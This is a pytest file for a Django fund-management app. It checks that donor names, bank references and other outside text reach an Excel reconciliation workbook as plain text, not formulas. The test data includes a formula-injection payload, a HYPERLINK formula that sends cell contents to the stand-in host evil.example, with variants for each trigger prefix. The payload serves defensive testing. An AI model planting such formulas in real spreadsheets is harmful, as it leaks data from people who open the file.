"""Outside text in the reconciliation workbook is text (docs/security.md,
"Outside text is data"): a donor's name, a bank line's reference,
counterparty and note, a statement's file name, a delegate's name and a
budget line's label are written as string cells showing exactly what was
typed, whatever their first character; the workbook's own totals and checks
stay formulas."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from donors.models import BankLine, BankStatement, Donor
from donors.services.bank_statements import COLUMNS, import_bank_statement
from donors.services.pledges import find_or_create_donor, record_pledge
from donors.services.receipts import record_receipt
from fundmgr.money import Money
from reports.services.bank_reconciliation import leave_unreconciled
from reports.services.conference import add_budget_line
from reports.workbook import write_reconciliation_workbook

pytestmark = pytest.mark.django_db

#: What Excel (and LibreOffice, Google Sheets) would start to evaluate.
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
THANKS = '=HYPERLINK("http://evil.example/?"&A1,"Thanks")'


def hostile(prefix: str, field: str) -> str:
    return f'{prefix}HYPERLINK("http://evil.example/?"&A1,"{field}")'


def write(fund) -> dict:
    handle = io.BytesIO()
    write_reconciliation_workbook(fund, timezone.localdate(), handle)
    handle.seek(0)
    return load_workbook(handle)


def cells_holding(book, text: str) -> list[tuple[str, str, object]]:
    """(sheet, data type, value) of every cell whose value contains ``text``."""
    return [
        (sheet.title, cell.data_type, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and text in cell.value
    ]


def bank_csv(tmp_path, rows) -> io.BytesIO:
    handle = io.StringIO()
    writer = csv.writer(handle)
    writer.writerow(COLUMNS)
    writer.writerows(rows)
    return io.BytesIO(handle.getvalue().encode("utf-8"))


@pytest.fixture
def texts(request, fund, rates, event, finance, admin_user, make_grant, tmp_path):
    """Every kind of outside text the workbook shows, starting with ``prefix``:
    the records are made by the services, then the text is set as stored (the
    services strip leading white space; other ways in, like the admin or an
    import, may not)."""
    prefix = request.param
    values = {
        field: hostile(prefix, field)
        for field in (
            "donor",
            "reference",
            "counterparty",
            "note",
            "file",
            "delegate",
            "budget line",
        )
    }
    donor = find_or_create_donor(name="Placeholder", kind="individual", email="d@example.org")
    pledge = record_pledge(
        fund=fund,
        donor=donor,
        amount=Money("1000.00", "USD"),
        pledge_date=datetime.date(2019, 3, 5),
        method="bank_transfer",
        agreement_signed=True,
        by=admin_user,
    )
    record_receipt(
        fund=fund,
        donor=donor,
        amount=Money("400.00", "USD"),
        value_date=datetime.date(2019, 3, 20),
        pledge=pledge,
        by=admin_user,
        notify=False,
    )
    Donor.objects.filter(pk=donor.pk).update(name=values["donor"])
    import_bank_statement(
        bank_csv(tmp_path, [("2019-04-26", "42.00", "USD", "mystery", "Unknown", "B-1")]),
        fund,
        finance,
        name="april.csv",
    )
    line = BankLine.objects.get(bank_ref="B-1")
    leave_unreconciled(line, finance, "other", "placeholder")
    BankLine.objects.filter(pk=line.pk).update(
        reference=values["reference"],
        counterparty=values["counterparty"],
        unreconciled_note=values["note"],
    )
    BankStatement.objects.filter(pk=line.statement_id).update(file_name=values["file"])
    grant = make_grant()
    type(grant).objects.filter(pk=grant.pk).update(nominee_name=values["delegate"])
    budget_line = add_budget_line(
        event, category="other", funding_source="trust_fund", budget="100", by=finance, label="x"
    )
    type(budget_line).objects.filter(pk=budget_line.pk).update(label=values["budget line"])
    return fund, values


#: Where each text is shown (a cell whose value is exactly it), by sheet.
SHOWN_IN = {
    "donor": {"Contributions", "Pledges receivable"},
    "reference": {"Bank lines"},
    "counterparty": {"Bank lines"},
    "note": {"Bank lines"},
    "file": {"Bank lines"},
    "delegate": {"Grants"},
    "budget line": {"Conference costs"},
}


@pytest.mark.parametrize("texts", PREFIXES, indirect=True, ids=repr)
def test_outside_text_is_a_string_cell_showing_exactly_what_was_typed(texts):
    fund, values = texts
    book = write(fund)
    for field, text in values.items():
        exact = [(sheet, kind) for sheet, kind, value in cells_holding(book, text) if value == text]
        assert {sheet for sheet, _kind in exact} == SHOWN_IN[field], field
        assert {kind for _sheet, kind in exact} == {"s"}, field


@pytest.mark.parametrize("texts", PREFIXES, indirect=True, ids=repr)
def test_no_formula_in_the_workbook_carries_outside_text(texts):
    fund, _values = texts
    book = write(fund)
    holding = cells_holding(book, "evil.example")
    # The statement's "contributions by donor" line starts with the donor's name.
    assert any(sheet == "Statement" for sheet, _kind, _value in holding)
    assert {kind for _sheet, kind, _value in holding} == {"s"}


def test_a_donor_named_as_a_hyperlink_formula_reaches_the_workbook_as_text(
    fund, rates, finance, admin_user, tmp_path
):
    """The issue's example, all the way through the services: a donor, and a
    bank line quoting it as reference and counterparty."""
    donor = find_or_create_donor(name=THANKS, kind="individual", email="anon@example.org")
    record_receipt(
        fund=fund,
        donor=donor,
        amount=Money("25.00", "USD"),
        value_date=datetime.date(2019, 3, 20),
        by=admin_user,
        notify=False,
    )
    import_bank_statement(
        bank_csv(tmp_path, [("2019-04-26", "42.00", "USD", THANKS, THANKS, "B-1")]),
        fund,
        finance,
        name="april.csv",
    )
    book = write(fund)
    contributions = book["Contributions"]
    assert contributions["B2"].value == THANKS and contributions["B2"].data_type == "s"
    bank = book["Bank lines"]
    assert [(c.value, c.data_type) for c in (bank["F2"], bank["G2"])] == [(THANKS, "s")] * 2
    assert {kind for _sheet, kind, _value in cells_holding(book, "evil.example")} == {"s"}


@pytest.mark.parametrize("text", ["#N/A", "#REF!", "#DIV/0!"])
def test_a_name_that_looks_like_an_excel_error_is_text(fund, rates, admin_user, text):
    donor = find_or_create_donor(name=text, kind="individual", email="e@example.org")
    record_receipt(
        fund=fund,
        donor=donor,
        amount=Money("25.00", "USD"),
        value_date=datetime.date(2019, 3, 20),
        by=admin_user,
        notify=False,
    )
    cell = write(fund)["Contributions"]["B2"]
    assert (cell.value, cell.data_type) == (text, "s")


def test_a_control_character_xml_cannot_hold_does_not_stop_the_export(
    fund, rates, finance, tmp_path
):
    import_bank_statement(
        bank_csv(tmp_path, [("2019-04-26", "42.00", "USD", "mystery", "Unknown", "B-1")]),
        fund,
        finance,
        name="april.csv",
    )
    BankLine.objects.update(reference="INV\x1b42\x0bX")
    cell = write(fund)["Bank lines"]["F2"]
    assert (cell.value, cell.data_type) == ("INV\ufffd42\ufffdX", "s")


def test_the_workbooks_own_totals_and_checks_stay_formulas(fund, rates, admin_user):
    donor = find_or_create_donor(name="Jane Giver", kind="individual", email="j@example.org")
    record_receipt(
        fund=fund,
        donor=donor,
        amount=Money("25.00", "USD"),
        value_date=datetime.date(2019, 3, 20),
        by=admin_user,
        notify=False,
    )
    book = write(fund)
    checks = list(book["Checks"].iter_rows(min_row=2))
    assert len(checks) >= 15
    for row in checks:
        assert [cell.data_type for cell in row[1:4] if cell.value is not None] == ["f"] * (
            3 if row[1].value is not None else 1
        )
    assert checks[-1][3].value == f"=AND(D2:D{len(checks)})"
    totals = [row for row in book["Contributions"].iter_rows() if row[0].value == "Total"]
    assert [(c.value, c.data_type) for c in totals[0] if c.value and c.column == 10] == [
        ("=SUM(J2:J2)", "f")
    ]
    statement = {
        row[0].value: row[1] for row in book["Statement"].iter_rows() if row[0].value is not None
    }
    assert statement["Difference"].data_type == "f"
    assert statement["Closing balance (opening + income - deductions)"].data_type == "f"


def test_libreoffice_shows_a_formula_like_name_as_text_not_its_result(
    fund, rates, admin_user, tmp_path
):
    """What a finance officer's spreadsheet does with the file: LibreOffice
    recalculates every formula; the donor's name is not one of them."""
    from tests.reports.test_workbook import recalculated

    donor = find_or_create_donor(name=THANKS, kind="individual", email="anon@example.org")
    record_receipt(
        fund=fund,
        donor=donor,
        amount=Money("25.00", "USD"),
        value_date=datetime.date(2019, 3, 20),
        by=admin_user,
        notify=False,
    )
    path = tmp_path / "reconciliation.xlsx"
    write_reconciliation_workbook(fund, timezone.localdate(), path)
    book = recalculated(path, tmp_path)
    assert book["Contributions"]["B2"].value == THANKS
    assert book["Checks"].cell(book["Checks"].max_row, 4).value is True
